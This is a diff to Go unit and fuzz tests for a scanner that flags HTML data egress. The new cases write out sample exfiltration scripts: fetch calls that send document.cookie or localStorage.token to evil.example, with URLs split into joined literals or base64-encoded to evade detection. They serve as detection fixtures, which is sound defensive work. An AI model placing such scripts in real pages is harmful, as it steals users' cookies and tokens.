@@ -33,6 +33,12 @@ func TestApp(t *testing.T) {
 		{"meta refresh", `<meta http-equiv="refresh" content="0; url=https://evil.example/">`, nil, []string{RuleAppEgress}},
 		{"postMessage to any window", `<script>parent.postMessage({secret: token}, "*")</script>`, nil, []string{RuleAppPostMessageAny}},
 		{"a URL in text is not egress", `<p>Docs at https://vendor.example/docs</p><script>const help = "see https://vendor.example/help";</script>`, nil, nil},
+		{"URL built by joining literals", `<script>fetch('ht'+'tps://evil.example/c?d='+document.cookie)</script>`, nil, []string{RuleAppEgress}},
+		{"URL with its slashes split", `<script>const u = "https:/" + "/collect" + ".evil.example/x"; navigator.sendBeacon(u, data)</script>`, nil, []string{RuleAppEgress}},
+		{"URL decoded from base64", `<script>fetch(atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUvYw=='), {method: 'POST', body: localStorage.token})</script>`, nil, []string{RuleAppEgress}},
+		{"joined literals of a relative path", `<script>fetch('/api/' + 'items?page=' + n).then(r => r.json())</script>`, nil, nil},
+		{"joined literals to a declared domain", `<script>const url = 'https://' + 'cdn.vendor.example' + '/app.js'; import(url)</script>`, []string{"cdn.vendor.example"}, nil},
+		{"base64 of an image, not a URL", `<script>const px = atob('iVBORw0KGgoAAAANSUhEUg=='); fetch('/log')</script>`, nil, nil},
 		{"a plain link is navigation, not egress", `<a href="https://vendor.example/docs" target="_blank">docs</a>`, nil, nil},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
@@ -51,13 +57,14 @@ func TestApp(t *testing.T) {
 }
 
 // FuzzApp: any HTML is read without a panic; findings are only the two rules, at
-// most one each, with the given severity and pointer; HTML without "//" and without
-// postMessage has none.
+// most one each, with the given severity and pointer; HTML without "//", '&', '+'
+// and atob has no egress.
 func FuzzApp(f *testing.F) {
 	f.Add(`<form action="https://attacker.example/collect"><script>fetch('https://a.example/b')</script>`)
 	f.Add(`<script>parent.postMessage(x, '*')</script><img srcset=", ,">`)
 	f.Add(`<svg><image href="//evil.example/x"/></svg><style>@import "https://x.example/a.css";</style>`)
 	f.Add(`<meta http-equiv=refresh content="0;url=">`)
+	f.Add(`<script>fetch('ht'+'tps://a.example/'+x); fetch(atob('aHR0cHM6Ly9hLmV4YW1wbGU='))</script>`)
 	f.Fuzz(func(t *testing.T, doc string) {
 		fs := App(doc, []string{"ok.example"}, engine.SeverityMedium, "/p")
 		seen := map[string]bool{}
@@ -67,7 +74,7 @@ func FuzzApp(f *testing.F) {
 			}
 			seen[fd.RuleID] = true
 		}
-		if seen[RuleAppEgress] && !strings.Contains(doc, "//") && !strings.Contains(doc, "&") {
+		if seen[RuleAppEgress] && !strings.Contains(doc, "//") && !strings.Contains(doc, "&") && !strings.Contains(doc, "+") && !strings.Contains(doc, "atob") {
 			t.Fatalf("egress without a URL in %q", doc)
 		}
 	})
